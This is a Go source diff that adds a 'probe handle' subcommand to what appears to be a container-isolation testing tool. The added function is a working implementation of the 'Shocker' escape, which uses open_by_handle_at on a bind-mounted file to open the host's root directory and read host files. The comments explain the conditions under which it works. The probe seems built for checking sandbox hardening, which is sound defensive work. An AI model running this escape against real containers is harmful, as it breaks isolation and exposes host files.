@@ -69,13 +69,18 @@ func main() {
 		tty()
 	case "ca":
 		fmt.Print(strings.TrimLeft(testca.CertPEM, "\n"))
+	case "handle":
+		if len(os.Args) != 4 {
+			usage()
+		}
+		os.Exit(handle(os.Args[2], os.Args[3]))
 	default:
 		usage()
 	}
 }
 
 func usage() {
-	fmt.Fprintln(os.Stderr, "usage: probe serve | probe get [-X METHOD] [-H 'Name: value']... URL | probe direct HOST:PORT | probe listen [-port-file FILE] [-for D] ADDR | probe tty | probe ca")
+	fmt.Fprintln(os.Stderr, "usage: probe serve | probe get [-X METHOD] [-H 'Name: value']... URL | probe direct HOST:PORT | probe listen [-port-file FILE] [-for D] ADDR | probe tty | probe ca | probe handle MOUNTFILE PATH")
 	os.Exit(2)
 }
 
@@ -215,4 +220,40 @@ func tty() {
 		return
 	}
 	fmt.Println("tty: yes")
+}
+
+// handle MOUNTFILE PATH reads PATH (relative) from the root directory of the
+// filesystem MOUNTFILE is on, opened by its file handle (ext4's root is
+// inode 2, generation 0) with open_by_handle_at(2): "Shocker". A container
+// with CAP_DAC_READ_SEARCH under runc passes Docker's default seccomp
+// profile with it and reads the host's filesystem through any bind mount
+// (/etc/hosts is one in every container). Prints "handle PATH: blocked: ERR"
+// or "handle PATH: read LINE" (the file's first line).
+func handle(mountFile, path string) int {
+	mfd, err := syscall.Open(mountFile, syscall.O_RDONLY, 0)
+	if err != nil {
+		fmt.Printf("handle %s: blocked: %v\n", path, err)
+		return 1
+	}
+	defer syscall.Close(mfd)
+	// struct file_handle { u32 handle_bytes; int handle_type; u32 ino, gen }
+	h := [4]uint32{8, 1, 2, 0}    // FILEID_INO32_GEN, the root inode
+	const sysOpenByHandleAt = 304 // amd64
+	r, _, errno := syscall.Syscall(sysOpenByHandleAt, uintptr(mfd), uintptr(unsafe.Pointer(&h[0])), uintptr(syscall.O_RDONLY|syscall.O_DIRECTORY))
+	if errno != 0 {
+		fmt.Printf("handle %s: blocked: %v\n", path, errno)
+		return 1
+	}
+	root := int(r)
+	defer syscall.Close(root)
+	fd, err := syscall.Openat(root, path, syscall.O_RDONLY, 0)
+	if err != nil {
+		fmt.Printf("handle %s: blocked: %v\n", path, err)
+		return 1
+	}
+	f := os.NewFile(uintptr(fd), path)
+	defer f.Close()
+	line, _ := bufio.NewReader(f).ReadString('\n')
+	fmt.Printf("handle %s: read %s\n", path, strings.TrimSpace(line))
+	return 0
 }
